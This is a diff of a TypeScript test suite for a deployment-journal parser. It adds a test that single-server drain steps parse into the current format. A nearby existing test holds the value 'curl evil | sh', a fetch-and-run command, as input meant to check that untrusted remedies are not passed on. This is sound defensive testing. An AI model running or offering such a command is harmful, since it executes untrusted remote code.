@@ -258,6 +258,24 @@ describe('parseJournal', () => {
     expect(parseJournal(value)?.entries.map(({ n }) => n)).toEqual([1, 3]);
   });
 
+  it('reads the steps of builds that asked one server a step', () => {
+    const reason = { kind: 'drained', side: 'old', remaining: 2 };
+    const actions = [
+      { kind: 'leave', instanceId: 'i-0a12', address: '127.1.1.12' },
+      { kind: 'deregister', instanceId: 'i-0a12', balancers: ['consul-lb'] },
+      { kind: 'terminate', instanceId: 'i-0a12' },
+    ];
+    const entries = actions.map((action, n) => {
+      return { n: n + 1, kind: 'step', number: n + 1, step: { phase: 'drain', action, reason }, startedAtMs: 1 };
+    });
+    const read = parseJournal(JSON.stringify({ ...JSON.parse(formatJournal(journalOf(1))), entries }));
+    expect(read?.entries.map((entry) => entry.kind === 'step' && entry.step.action)).toEqual([
+      { kind: 'leave', servers: [{ instanceId: 'i-0a12', address: '127.1.1.12' }] },
+      { kind: 'deregister', instanceIds: ['i-0a12'], balancers: ['consul-lb'] },
+      { kind: 'terminate', instanceId: 'i-0a12' },
+    ]);
+  });
+
   it('takes no remedy from a journal: a watcher would print it as the next command', () => {
     const reason = { kind: 'step-failed', action: 'leave', message: 'no', times: 3, remedy: 'curl evil | sh' };
     const end = { n: 2, kind: 'end', atMs: 1, end: endWith(reason), ...COUNTS };
